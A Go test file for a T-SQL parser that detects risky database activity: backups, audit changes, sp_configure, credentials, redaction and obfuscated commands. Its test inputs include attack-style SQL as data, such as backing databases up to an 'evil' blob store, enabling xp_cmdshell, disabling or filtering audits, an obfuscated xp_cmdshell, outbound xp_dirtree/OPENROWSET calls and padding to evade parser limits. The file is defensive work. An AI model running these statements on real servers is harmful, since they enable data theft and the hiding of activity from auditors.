package tsql

import (
	"reflect"
	"strings"
	"testing"
)

func TestNormalize(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"case and whitespace", "BACKUP   DATABASE\n\t[Sales]  TO URL = N'https://Acct.blob.core.windows.net/C/x.bak'", "backup database sales to url = 'https://Acct.blob.core.windows.net/C/x.bak'"},
		{"line comment", "EXEC xp_cmdshell -- hidden\n 'dir'", "exec xp_cmdshell 'dir'"},
		{"nested block comment", "EXEC /* a /* b */ c */ sp_configure", "exec sp_configure"},
		{"comment splits words", "BACKUP/**/DATABASE", "backup database"},
		{"quoted identifiers", `ALTER SERVER AUDIT "My Audit" WITH (STATE = OFF)`, "alter server audit my audit with (state = off)"},
		{"escaped quote in literal", "SELECT 'it''s'", "select 'it''s'"},
		{"escaped bracket", "SELECT [a]]b]", "select a]b"},
		{"unterminated comment", "SELECT 1 /* open", "select 1"},
		{"comment marker inside literal", "SELECT '--x' -- y", "select '--x'"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Normalize(tt.in); got != tt.want {
				t.Errorf("Normalize(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestParseBackup(t *testing.T) {
	type want struct {
		restore   bool
		object    Object
		name      string
		dests     []Destination
		opts      []string
		unknown   bool
		truncated bool
	}
	tests := []struct {
		name string
		in   string
		want *want
	}{
		{"url copy_only", "BACKUP DATABASE [Sales] TO URL = N'https://evil.blob.core.windows.net/loot/s.bak' WITH COPY_ONLY, COMPRESSION, STATS = 10",
			&want{object: ObjectDatabase, name: "sales", dests: []Destination{{DestURL, "https://evil.blob.core.windows.net/loot/s.bak", DestURL}}, opts: []string{"copy_only", "compression", "stats"}}},
		{"stripes", "backup database db to url='https://a.blob.core.windows.net/c/1.bak', url='https://a.blob.core.windows.net/c/2.bak' with format, init",
			&want{object: ObjectDatabase, name: "db", dests: []Destination{{DestURL, "https://a.blob.core.windows.net/c/1.bak", DestURL}, {DestURL, "https://a.blob.core.windows.net/c/2.bak", DestURL}}, opts: []string{"format", "init"}}},
		{"unc disk and mirror", `BACKUP LOG db TO DISK = '\\host\share\db.trn' MIRROR TO TAPE = '\\.\tape0' WITH FORMAT`,
			&want{object: ObjectLog, name: "db", dests: []Destination{{DestDisk, `\\host\share\db.trn`, DestDisk}, {DestTape, `\\.\tape0`, DestTape}}, opts: []string{"format"}}},
		{"variable", "BACKUP DATABASE @db TO DISK = @path WITH INIT",
			&want{object: ObjectDatabase, name: "@db", dests: []Destination{{DestUnknown, "@path", DestDisk}}, opts: []string{"init"}, unknown: true}},
		{"device", "BACKUP DATABASE db TO NightlyDevice",
			&want{object: ObjectDatabase, name: "db", dests: []Destination{{DestDevice, "nightlydevice", 0}}}},
		{"truncated", "BACKUP DATABASE db TO URL = 'https://a.blob.core.windows.net/c/x",
			&want{object: ObjectDatabase, name: "db", dests: []Destination{{DestURL, "https://a.blob.core.windows.net/c/x", DestURL}}, unknown: true, truncated: true}},
		{"cut before TO", "BACKUP DATABASE db",
			&want{object: ObjectDatabase, name: "db", unknown: true, truncated: true}},
		{"credential and encryption", "BACKUP DATABASE db TO URL = 'https://a.blob.core.windows.net/c/x.bak' WITH CREDENTIAL = 'cred', ENCRYPTION (ALGORITHM = AES_256, SERVER CERTIFICATE = c)",
			&want{object: ObjectDatabase, name: "db", dests: []Destination{{DestURL, "https://a.blob.core.windows.net/c/x.bak", DestURL}}, opts: []string{"credential", "encryption"}}},
		{"certificate with private key", "BACKUP CERTIFICATE TDECert TO FILE = 'C:\\k\\tde.cer' WITH PRIVATE KEY (FILE = 'C:\\k\\tde.pvk', ENCRYPTION BY PASSWORD = 'p@ss')",
			&want{object: ObjectCertificate, name: "tdecert", dests: []Destination{{DestFile, `C:\k\tde.cer`, DestFile}, {DestFile, `C:\k\tde.pvk`, DestFile}}, opts: []string{"private key"}}},
		{"master key", "BACKUP MASTER KEY TO FILE = '/tmp/mk' ENCRYPTION BY PASSWORD = 'x'",
			&want{object: ObjectMasterKey, dests: []Destination{{DestFile, "/tmp/mk", DestFile}}}},
		{"service master key", "backup service master key to file = 'c:\\smk'",
			&want{object: ObjectServiceMasterKey, dests: []Destination{{DestFile, `c:\smk`, DestFile}}}},
		{"symmetric key to url", "BACKUP SYMMETRIC KEY k1 TO URL = 'https://a.blob.core.windows.net/c/k' ENCRYPTION BY PASSWORD = 'x'",
			&want{object: ObjectSymmetricKey, name: "k1", dests: []Destination{{DestURL, "https://a.blob.core.windows.net/c/k", DestURL}}}},
		{"restore replace", "RESTORE DATABASE db FROM URL = 'https://x.blob.core.windows.net/c/db.bak' WITH REPLACE, MOVE 'a' TO 'b'",
			&want{restore: true, object: ObjectDatabase, name: "db", dests: []Destination{{DestURL, "https://x.blob.core.windows.net/c/db.bak", DestURL}}, opts: []string{"replace", "move"}}},
		{"restore recovery only", "RESTORE DATABASE db WITH RECOVERY",
			&want{restore: true, object: ObjectDatabase, name: "db", opts: []string{"recovery"}}},
		{"restore headeronly", "RESTORE HEADERONLY FROM DISK = 'x.bak'",
			&want{restore: true, object: ObjectMetadata, dests: []Destination{{DestDisk, "x.bak", DestDisk}}}},
		{"after comment and use", "/* nightly */ USE master; BACKUP DATABASE db TO DISK = 'd:\\b\\db.bak'; SELECT 1",
			&want{object: ObjectDatabase, name: "db", dests: []Destination{{DestDisk, `d:\b\db.bak`, DestDisk}}}},
		{"with then next statement", "BACKUP DATABASE db TO DISK = 'x' WITH INIT SELECT 1",
			&want{object: ObjectDatabase, name: "db", dests: []Destination{{DestDisk, "x", DestDisk}}, opts: []string{"init"}}},
		{"not a backup", "SELECT backup_size FROM msdb.dbo.backupset", nil},
		{"literal only", "SELECT 'BACKUP DATABASE x TO URL'", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := ParseBackup(tt.in)
			if tt.want == nil {
				if got != nil {
					t.Fatalf("ParseBackup = %+v, want nil", got)
				}
				return
			}
			if got == nil {
				t.Fatal("ParseBackup = nil")
			}
			if got.Restore != tt.want.restore || got.Object != tt.want.object || got.Name != tt.want.name {
				t.Errorf("got restore=%v object=%v name=%q, want %v %v %q", got.Restore, got.Object, got.Name, tt.want.restore, tt.want.object, tt.want.name)
			}
			if !reflect.DeepEqual(got.Destinations, tt.want.dests) {
				t.Errorf("destinations = %+v, want %+v", got.Destinations, tt.want.dests)
			}
			var opts []string
			for _, o := range got.Options {
				opts = append(opts, o.Name)
			}
			if !reflect.DeepEqual(opts, tt.want.opts) {
				t.Errorf("options = %q, want %q", opts, tt.want.opts)
			}
			if got.Unknown() != tt.want.unknown || got.Truncated != tt.want.truncated {
				t.Errorf("unknown=%v truncated=%v, want %v %v", got.Unknown(), got.Truncated, tt.want.unknown, tt.want.truncated)
			}
			for _, o := range got.Options {
				if strings.Contains(o.Value, "p@ss") {
					t.Errorf("option %q keeps the password", o.Name)
				}
			}
		})
	}
}

func TestParseAudits(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want []AuditChange
	}{
		{"state off", "ALTER SERVER AUDIT [Main] WITH (STATE = OFF)",
			[]AuditChange{{Verb: "alter", Object: ServerAudit, Name: "main", State: "off", Options: []Option{{"state", "off"}}}}},
		{"predicate", "ALTER SERVER AUDIT Main WHERE server_principal_name <> 'evil'",
			[]AuditChange{{Verb: "alter", Object: ServerAudit, Name: "main", Predicate: "server_principal_name <> 'evil'"}}},
		{"target change", "ALTER SERVER AUDIT a TO FILE (FILEPATH = 'c:\\x\\', MAX_ROLLOVER_FILES = 1) WITH (QUEUE_DELAY = 60000, ON_FAILURE = CONTINUE)",
			[]AuditChange{{Verb: "alter", Object: ServerAudit, Name: "a", Target: "file", Options: []Option{{"filepath", `c:\x\`}, {"max_rollover_files", "1"}, {"queue_delay", "60000"}, {"on_failure", "continue"}}}}},
		{"remove where and rename", "ALTER SERVER AUDIT a REMOVE WHERE; ALTER SERVER AUDIT a MODIFY NAME = b",
			[]AuditChange{{Verb: "alter", Object: ServerAudit, Name: "a", RemoveWhere: true}, {Verb: "alter", Object: ServerAudit, Name: "a", NewName: "b"}}},
		{"spec drop group", "ALTER SERVER AUDIT SPECIFICATION s FOR SERVER AUDIT a DROP (BACKUP_RESTORE_GROUP), ADD (FAILED_LOGIN_GROUP) WITH (STATE = ON)",
			[]AuditChange{{Verb: "alter", Object: ServerAuditSpecification, Name: "s", Audit: "a", DroppedGroups: []string{"backup_restore_group"}, AddedGroups: []string{"failed_login_group"}, State: "on", Options: []Option{{"state", "on"}}}}},
		{"db spec", "CREATE DATABASE AUDIT SPECIFICATION d FOR SERVER AUDIT a ADD (SELECT ON OBJECT::dbo.t BY public)",
			[]AuditChange{{Verb: "create", Object: DatabaseAuditSpecification, Name: "d", Audit: "a", AddedGroups: []string{"select on object::dbo.t by public"}}}},
		{"drop", "DROP SERVER AUDIT a",
			[]AuditChange{{Verb: "drop", Object: ServerAudit, Name: "a"}}},
		{"database named audit", "ALTER DATABASE audit SET RECOVERY FULL", nil},
		{"none", "SELECT * FROM sys.server_audits", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := ParseAudits(tt.in)
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("ParseAudits(%q)\n got %+v\nwant %+v", tt.in, got, tt.want)
			}
		})
	}
}

func TestParseConfigure(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want []Configure
	}{
		{"exec", "EXEC sp_configure 'xp_cmdshell', 1", []Configure{{"xp_cmdshell", "1", true}}},
		{"N strings and sys", "EXECUTE sys.sp_configure N'Show Advanced  Options', N'1'; RECONFIGURE", []Configure{{"show advanced options", "1", true}}},
		{"named", "exec master.dbo.sp_configure @configname = N'clr enabled', @configvalue = 1", []Configure{{"clr enabled", "1", true}}},
		{"two calls", "sp_configure 'show advanced options',1;reconfigure;exec sp_configure 'Ole Automation Procedures', 0", []Configure{{"show advanced options", "1", true}, {"ole automation procedures", "0", true}}},
		{"show only", "EXEC sp_configure", []Configure{{}}},
		{"no value", "EXEC sp_configure 'xp_cmdshell'", []Configure{{Option: "xp_cmdshell"}}},
		{"literal only", "SELECT 'sp_configure xp_cmdshell 1'", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Parse(tt.in).Configure()
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("got %+v, want %+v", got, tt.want)
			}
		})
	}
}

func TestParseCredential(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want *Credential
	}{
		{"sas", "CREATE CREDENTIAL [https://evil.blob.core.windows.net/loot] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = 'sv=2022&sig=abc'",
			&Credential{Verb: "create", Name: "https://evil.blob.core.windows.net/loot", Identity: "SHARED ACCESS SIGNATURE", HasSecret: true}},
		{"database scoped", "alter database scoped credential c with identity = 'Managed Identity'",
			&Credential{Verb: "alter", Database: true, Name: "c", Identity: "Managed Identity"}},
		{"none", "CREATE LOGIN x WITH PASSWORD = 'y'", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Parse(tt.in).Credential()
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("got %+v, want %+v", got, tt.want)
			}
		})
	}
}

func TestRedact(t *testing.T) {
	tests := []struct{ in, want string }{
		{"CREATE LOGIN x WITH PASSWORD = 'Secr3t!', CHECK_POLICY = OFF", "CREATE LOGIN x WITH PASSWORD = '***', CHECK_POLICY = OFF"},
		{"CREATE CREDENTIAL c WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = N'sv=1&sig=x''y'", "CREATE CREDENTIAL c WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = N'***'"},
		{"BACKUP MASTER KEY TO FILE = 'f' ENCRYPTION BY PASSWORD='a' ", "BACKUP MASTER KEY TO FILE = 'f' ENCRYPTION BY PASSWORD='***' "},
		{"exec sp_addlinkedsrvlogin @rmtpassword = 'p'", "exec sp_addlinkedsrvlogin @rmtpassword = '***'"},
		{"SELECT password_hash FROM sys.sql_logins", "SELECT password_hash FROM sys.sql_logins"},
		{"PASSWORD = 'unterminated", "PASSWORD = '***'"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			if got := Redact(tt.in); got != tt.want {
				t.Errorf("Redact = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestStatementHelpers(t *testing.T) {
	st := Parse(`DECLARE @c varchar(50) = 'xp_' + 'cmd' + CHAR(115) + 'hell'; EXEC (@c); SELECT CAST(0x78705f7265677772697465 AS varchar); EXEC xp_dirtree '\\10.0.0.9\s'; SELECT * FROM OPENROWSET('x','https://evil.example/p')`)
	if got, want := st.Obfuscated(), []string{"xp_cmdshell", "xp_regwrite"}; !reflect.DeepEqual(got, want) {
		t.Errorf("Obfuscated = %q, want %q", got, want)
	}
	if got, want := st.Outbound(), []string{`\\10.0.0.9\s`, "https://evil.example/p"}; !reflect.DeepEqual(got, want) {
		t.Errorf("Outbound = %q, want %q", got, want)
	}
	if !st.HasWord("xp_dirtree") || st.HasWord("xp_cmdshell") {
		t.Errorf("HasWord: xp_dirtree=%v xp_cmdshell=%v, want true false", st.HasWord("xp_dirtree"), st.HasWord("xp_cmdshell"))
	}
	job := Parse("EXEC msdb.dbo.sp_add_jobstep @job_name = N'j', @step_name = N's', @subsystem = N'CmdExec', @command = N'whoami'")
	if got, ok := job.NamedArg("sp_add_jobstep", "@subsystem"); !ok || got != "CmdExec" {
		t.Errorf("NamedArg = %q, %v; want CmdExec, true", got, ok)
	}
}

// TestParsePaddedBackup: the options that end a BACKUP are seen however
// the statement is padded before them: a comment of 600,000 characters
// (MaxStatement used to cut it at 256 KiB) or more tokens than MaxTokens
// (the lexer used to stop there).
func TestParsePaddedBackup(t *testing.T) {
	const url = "https://evilstore.blob.core.windows.net/loot/salesdb.bak"
	cases := []struct {
		name, pad string
		truncated bool
	}{
		{"comment", "/*" + strings.Repeat("x", 600_000) + "*/", false},
		{"line comments", strings.Repeat("-- padding padding padding\n", 30_000), false},
		{"tokens", strings.Repeat("MEDIANAME = 'm', ", 20_000), true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			st := Parse("BACKUP DATABASE [salesdb] TO URL = '" + url + "' WITH " + tc.pad + " COPY_ONLY, COMPRESSION")
			b := st.Backup()
			if b == nil {
				t.Fatal("no backup parsed")
			}
			if !b.Has("copy_only") || !b.Has("compression") {
				t.Errorf("options %v: COPY_ONLY/COMPRESSION not seen", b.Options)
			}
			if len(b.Destinations) != 1 || b.Destinations[0].Value != url {
				t.Errorf("destinations %+v", b.Destinations)
			}
			if st.Truncated != tc.truncated || len(st.Tokens) > MaxTokens {
				t.Errorf("truncated %v with %d tokens, want %v and at most %d", st.Truncated, len(st.Tokens), tc.truncated, MaxTokens)
			}
		})
	}
}

// TestParseBackupListBounds: a long WITH list keeps its last options, and
// destinations beyond the bound make the statement truncated (unknown),
// never silently allowed.
func TestParseBackupListBounds(t *testing.T) {
	b := Parse("BACKUP DATABASE d TO URL = 'https://ok/x' WITH " + strings.Repeat("STATS = 1, ", 100) + "COPY_ONLY").Backup()
	if b == nil || !b.Has("copy_only") || len(b.Options) > maxOptions {
		t.Fatalf("options %v: COPY_ONLY lost or over %d", b.Options, maxOptions)
	}
	b = Parse("BACKUP DATABASE d TO " + strings.Repeat("URL = 'https://ok/x', ", 64) + "URL = 'https://evil/x' WITH COPY_ONLY").Backup()
	if b == nil || !b.Truncated || !b.Unknown() || !b.Has("copy_only") {
		t.Fatalf("65 destinations: truncated %v unknown %v, options %v", b.Truncated, b.Unknown(), b.Options)
	}
}
